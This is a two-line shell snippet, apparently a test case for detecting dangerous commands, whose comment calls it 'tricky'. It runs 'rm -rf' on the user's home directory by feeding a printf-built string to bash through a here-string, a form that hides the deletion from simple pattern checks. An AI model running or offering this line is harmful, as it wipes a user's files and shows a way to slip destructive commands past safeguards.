# tricky: the program is a here-string
bash <<< "$(printf 'rm -rf %s' "$HOME")"
